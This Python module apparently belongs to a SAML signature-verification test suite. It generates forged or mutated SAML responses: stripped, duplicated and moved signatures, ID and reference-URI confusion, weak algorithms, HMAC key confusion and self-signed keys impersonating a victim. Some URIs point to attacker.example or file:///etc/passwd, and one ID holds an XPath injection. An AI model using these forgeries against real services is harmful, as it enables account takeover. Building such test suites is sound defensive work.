"""Signatures taken away, doubled, pointed elsewhere, computed otherwise, or made with another key."""

from collections.abc import Iterator
from copy import deepcopy
from itertools import product

from cryptography.hazmat.primitives.asymmetric import ec
from lxml import etree

from .. import idp
from .base import ASSERTION, SIGNATURE, VICTIM, Attack, Base, container, named, signed, xml


def stripping(base: Base) -> Iterator[Attack]:
    """No signature, an empty one, or one that covers nothing of what is said."""
    for changed, emptied in product((True, False), (False, True)):
        root = base.copy()
        for signature in list(root.iter(SIGNATURE)):
            if emptied:
                del signature[:]
            else:
                signature.getparent().remove(signature)  # type: ignore[union-attr]
        if changed or container(root).tag != ASSERTION:
            idp.swap(container(root), base.evil(container(root), "_evil"))
        yield f"{'emptied' if emptied else 'removed'}, {'changed' if changed else 'otherwise as it was'}", xml(root)
    root = base.copy()
    idp.swap(container(root), base.evil(container(root), "_evil"))
    yield "another person, signatures of the Response kept", xml(root)
    root = base.copy()
    idp.swap(container(root), base.evil_assertion(container(root).get("ID", "_evil")))
    yield "another person in plain, signatures of the Response kept", xml(root)
    yield "nothing was ever signed", xml(base.evil_response())
    for element in range(len(signed(base.document))):
        root = base.copy()
        found = signed(root)[element].find(SIGNATURE)
        assert found is not None
        found.tag = f"{{{idp.DS}}}Signatur\u00e9"
        for value in root.iter(f"{{{idp.SAML}}}NameID"):
            value.text = VICTIM
        if container(root).tag == ASSERTION:
            yield f"a Signature of another name ({element}), another person", xml(root)


def doubling(base: Base) -> Iterator[Attack]:
    """One reader takes the first, another the last (CVE-2025-29774)."""
    if not signed(base.document):
        return
    names = "Signature SignedInfo CanonicalizationMethod SignatureMethod Reference Transforms Transform DigestMethod "
    for name in (*names.split(), "DigestValue", "SignatureValue"):
        for before, empty in product((True, False), repeat=2):
            root = base.copy()
            found = next(named(root, name))
            second = deepcopy(found)
            if empty:
                del second[:]
                second.text = None
            (found.addprevious if before else found.addnext)(second)
            kind = "empty second" if empty else "copy"
            yield f"{name} twice, {kind} {'before' if before else 'after'}", xml(root)
    for name in ("Object", "Manifest", "SignatureProperties", "Reference", "SignedInfo"):
        root = base.copy()
        etree.SubElement(next(root.iter(SIGNATURE)), f"{{{idp.DS}}}{name}")
        yield f"{name} in the Signature", xml(root)
    for parent in ("Status", "Issuer", "StatusCode"):
        root = base.copy()
        target = next(root.iter(f"{{*}}{parent}"), None)
        if target is None:
            continue
        target.append(next(root.iter(SIGNATURE)))
        yield f"Signature moved into {parent}", xml(root)


def digests(base: Base) -> Iterator[Attack]:
    """Another person, and the digest of the changed element where a careless search finds it (CVE-2024-45409)."""
    for index, _ in enumerate(signed(base.document)):
        if container(base.document).tag != ASSERTION:
            return
        for parent, first in product(("Status", "Signature", "KeyInfo", "SignedInfo", "Issuer", "self"), (True, False)):
            root = base.copy()
            element = signed(root)[index]
            for value in container(root).iter(f"{{{idp.SAML}}}NameID"):
                value.text = VICTIM
            own = element.find(SIGNATURE)
            assert own is not None
            forged = deepcopy(own)
            next(named(forged, "DigestValue")).text = _digest(element)
            target = element if parent == "self" else next(root.iter(f"{{*}}{parent}"), None)
            if target is None:
                continue
            for part in ("DigestValue", "Reference", "SignedInfo", "Signature"):
                fraud = forged if part == "Signature" else next(named(forged, part))
                target.insert(0 if first else len(target), deepcopy(fraud))
                yield f"{part} of the changed one in {parent} {'first' if first else 'last'} ({index})", xml(root)
                del target[0 if first else -1]


def _digest(element: etree._Element) -> str:
    bare = etree.fromstring(xml(element))
    for signature in bare.findall(SIGNATURE):
        bare.remove(signature)
    digester = idp.hashes.Hash(idp.hashes.SHA256())
    digester.update(etree.tostring(bare, method="c14n", exclusive=True))
    return idp.base64.b64encode(digester.finalize()).decode()


def identity(base: Base) -> Iterator[Attack]:
    """References resolve by ID: twice the same, spelt otherwise, or none at all."""
    spellings = (
        "ID",
        "Id",
        "id",
        "iD",
        "{urn:example}ID",
        "{urn:example}Id",
        "{http://www.w3.org/XML/1998/namespace}id",
    )
    for attribute, element in product(spellings, signed(base.document)):
        for target in ("Status", "Issuer", "KeyInfo", "Reference"):
            root = base.copy()
            holder = next(root.iter(f"{{*}}{target}"), None)
            if holder is not None:
                holder.set(attribute, element.get("ID", ""))
                yield f"the ID of {etree.QName(element).localname} again, as {attribute} of {target}", xml(root)
    for index, _ in enumerate(signed(base.document)):
        for value in (None, "", "_other", "#", "_x y", "_x')|//*[('1", "\u00e4", "1" * 300):
            root = base.copy()
            target = signed(root)[index]
            if value is None:
                del target.attrib["ID"]
            else:
                target.set("ID", value)
            yield f"ID {value!r:.20} ({index})", xml(root)
        for attribute in ("Id", "id", "{urn:example}ID", "{http://www.w3.org/XML/1998/namespace}id"):
            root = base.copy()
            target = signed(root)[index]
            target.set(attribute, target.attrib.pop("ID"))
            yield f"ID renamed to {attribute} ({index})", xml(root)


def references(base: Base) -> Iterator[Attack]:
    """A Reference means its own parent, in the one way to say so (Core 5.4.2)."""
    identifiers = [str(element.get("ID")) for element in signed(base.document)] or ["_x"]
    for uri in (
        None,
        "",
        "#",
        "#_other",
        "#xpointer(/)",
        f"#xpointer(id('{identifiers[0]}'))",
        f"#xpointer(id({identifiers[0]}))",
        "http://attacker.example/x",
        "file:///etc/passwd",
        f"{idp.ACS}#{identifiers[0]}",
        identifiers[0],
        f" #{identifiers[0]}",
        f"#{identifiers[0]} ",
        f"#{identifiers[0].upper()}",
        f"%23{identifiers[0]}",
    ):
        root = base.copy()
        for reference in named(root, "Reference"):
            if uri is None:
                del reference.attrib["URI"]
            else:
                reference.set("URI", uri)
        yield f"URI {uri!r}", xml(root)
    root = base.copy()
    both = signed(root)
    if len(both) == 2:
        for mine, other in zip(both, reversed(both), strict=True):
            next(named(mine.find(SIGNATURE), "Reference")).set("URI", f"#{other.get('ID')}")  # type: ignore[arg-type]
        yield "each refers to the other", xml(root)
        root = base.copy()
        first, second = (element.find(SIGNATURE) for element in signed(root))
        assert first is not None
        assert second is not None
        copy = deepcopy(second)
        idp.swap(second, deepcopy(first))
        idp.swap(first, copy)
        yield "their Signatures exchanged", xml(root)


_TR, _NEWER = "http://www.w3.org/TR", "http://www.w3.org/2002"
TABLES = {
    "SignatureMethod": f"{idp.DS}rsa-sha1 {idp.DS}dsa-sha1 {idp.DS}hmac-sha1 {idp.MORE}hmac-sha256 {idp.MORE}rsa-md5 "
    f"{idp.MORE}rsa-sha224 {idp.MORE}rsa-ripemd160 {idp.MORE}ecdsa-sha1 http://www.w3.org/2009/xmldsig11#dsa-sha256 "
    f"urn:none none",
    "DigestMethod": f"{idp.DS}sha1 {idp.MORE}md5 {idp.MORE}sha224 http://www.w3.org/2001/04/xmlenc#ripemd160 urn:none",
    "CanonicalizationMethod": f"{_TR}/2001/REC-xml-c14n-20010315 {_TR}/2001/REC-xml-c14n-20010315#WithComments "
    f"{_TR}/1999/REC-xslt-19991116 http://www.w3.org/2006/12/xml-c14n11 http://www.w3.org/2010/xml-c14n2 urn:none",
    "Transform": f"{_TR}/1999/REC-xslt-19991116 {_TR}/1999/REC-xpath-19991116 {idp.DS}base64 {idp.EXC} "
    f"{_NEWER}/06/xmldsig-filter2 {_NEWER}/07/decrypt#XML {_NEWER}/07/decrypt#Binary "
    "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#STR-Transform",
}


def algorithms(base: Base) -> Iterator[Attack]:
    """Named algorithms are an invitation: XSLT runs, XPath selects, HMAC takes a public key for a secret."""
    for element, names in TABLES.items():
        for name in (*names.split(), "", "  "):
            root = base.copy()
            for found in named(root, element):
                found.set("Algorithm", name)
            yield f"{element} {name!r}", xml(root)
        root = base.copy()
        for found in named(root, element):
            del found.attrib["Algorithm"]
        yield f"{element} without Algorithm", xml(root)
    for transforms in (
        (),
        (idp.EXC,),
        (idp.EXC, idp.ENVELOPED),
        (idp.ENVELOPED, idp.ENVELOPED),
        (idp.ENVELOPED, idp.EXC, idp.EXC),
        (idp.ENVELOPED,) * 200,
    ):
        root = base.copy()
        for parent in named(root, "Transforms"):
            del parent[:]
            for name in transforms:
                etree.SubElement(parent, f"{{{idp.DS}}}Transform", Algorithm=name)
        yield f"{len(transforms)} transforms {transforms[:3]}", xml(root)
    yield from _parameters(base)
    for element, value in product(
        ("DigestValue", "SignatureValue"), ("", " ", "%%%", "AAAA", "\u00e4", "AA=A", "=" * 4)
    ):
        root = base.copy()
        for found in named(root, element):
            found.text = value
        yield f"{element} {value!r}", xml(root)


def _parameters(base: Base) -> Iterator[Attack]:
    for element, child in (
        ("SignatureMethod", f"{{{idp.DS}}}HMACOutputLength"),
        ("Transform", "{http://www.w3.org/1999/XSL/Transform}stylesheet"),
        ("Transform", f"{{{idp.DS}}}XPath"),
        ("Transform", f"{{{_NEWER}/06/xmldsig-filter2}}XPath"),
        ("Transform", f"{{{idp.EXC}}}InclusiveNamespaces"),
        ("CanonicalizationMethod", f"{{{idp.EXC}}}InclusiveNamespaces"),
        ("CanonicalizationMethod", "{urn:example}parameter"),
        ("DigestMethod", "{urn:example}parameter"),
        ("DigestValue", "{urn:example}split"),
        ("SignatureValue", "{urn:example}split"),
        ("SignedInfo", "{urn:example}more"),
        ("Reference", "{urn:example}more"),
        ("Transforms", "{urn:example}more"),
    ):
        root = base.copy()
        for found in named(root, element):
            etree.SubElement(found, child, PrefixList="saml samlp #default").text = "0"
        yield f"{etree.QName(child).localname} of {etree.QName(child).namespace} in {element}", xml(root)


def keys(base: Base) -> Iterator[Attack]:
    """The victim's assertion, well signed, by every key that a stranger has."""
    mine = idp.attacker()
    for name, method, by in (
        ("an own certificate of the same subject", f"{idp.MORE}rsa-sha256", mine),
        ("an own elliptic key", f"{idp.MORE}ecdsa-sha256", idp.pair("idp.example.com", "ec")),
        ("a small own key", f"{idp.MORE}rsa-sha256", idp.pair("idp.example.com", "rsa1024")),
    ):
        for info in INFOS:
            root = base.evil_response()
            idp.swap(container(root), idp.sign(container(root), by, method=method))
            root = idp.sign(root, by, method=method)
            for found in list(named(root, "KeyInfo")):
                _set_key_info(found, info, by, base)
            yield f"{name}, KeyInfo: {info}", xml(root)
    for form in ("PEM", "DER", "certificate PEM", "certificate DER", "certificate base64", "empty"):
        root = base.evil_response()
        idp.swap(container(root), idp.sign(container(root), mine, method=f"{idp.MORE}rsa-sha256"))
        root = idp.sign(root, mine, method=f"{idp.MORE}rsa-sha256")
        for signature in reversed(list(root.iter(SIGNATURE))):
            _hmac(signature, base, form)
        yield f"HMAC with the pinned {form} as its secret", xml(root)
    root = base.copy()
    for signature in root.iter(SIGNATURE):
        elliptic = "ecdsa" in next(named(signature, "SignatureMethod")).get("Algorithm", "")
        idp.resign(signature, idp.pair("idp.example.com", "ec") if elliptic else mine)
    yield "a new SignatureValue by an own key", xml(root)


def _hmac(signature: etree._Element, base: Base, form: str) -> None:
    next(named(signature, "SignatureMethod")).set("Algorithm", f"{idp.MORE}hmac-sha256")
    info = next(named(signature, "SignedInfo"))
    octets = etree.tostring(info, method="c14n", exclusive=True, with_tail=False)
    secret = idp.public_forms(base.certificate)[form]
    next(named(signature, "SignatureValue")).text = idp.base64.b64encode(
        idp.hmac.digest(secret, octets, "sha256")
    ).decode()


INFOS = ("certificate", "key value", "none", "pinned certificate", "both", "both reversed", "name", "retrieval")


def _set_key_info(info: etree._Element, kind: str, by: idp.Pair, base: Base) -> None:
    certificates = {
        "certificate": (by.certificate,),
        "pinned certificate": (base.certificate,),
        "both": (base.certificate, by.certificate),
        "both reversed": (by.certificate, base.certificate),
    }
    del info[:]
    if kind == "none":
        info.getparent().remove(info)  # type: ignore[union-attr]
    elif kind == "name":
        etree.SubElement(info, f"{{{idp.DS}}}KeyName").text = base.certificate.subject
    elif kind == "retrieval":
        etree.SubElement(info, f"{{{idp.DS}}}RetrievalMethod", URI="http://attacker.example/key")
    elif kind in certificates:
        for certificate in certificates[kind]:
            data = etree.SubElement(info, f"{{{idp.DS}}}X509Data")
            etree.SubElement(data, f"{{{idp.DS}}}X509Certificate").text = certificate.base64_der
    elif not isinstance(by.key, ec.EllipticCurvePrivateKey):
        numbers = by.key.public_key().public_numbers()
        value = etree.SubElement(etree.SubElement(info, f"{{{idp.DS}}}KeyValue"), f"{{{idp.DS}}}RSAKeyValue")
        for name, number in (("Modulus", numbers.n), ("Exponent", numbers.e)):
            octets = number.to_bytes((number.bit_length() + 7) // 8)
            etree.SubElement(value, f"{{{idp.DS}}}{name}").text = idp.base64.b64encode(octets).decode()


def key_info(base: Base) -> Iterator[Attack]:
    """KeyInfo is outside of what is signed, and nothing is read from it: whatever it says changes nothing."""
    for kind in INFOS:
        root = base.copy()
        for signature in root.iter(SIGNATURE):
            found = signature.find(f"{{{idp.DS}}}KeyInfo")
            info = etree.SubElement(signature, f"{{{idp.DS}}}KeyInfo") if found is None else found
            _set_key_info(info, kind, idp.attacker(), base)
        yield kind, xml(root)
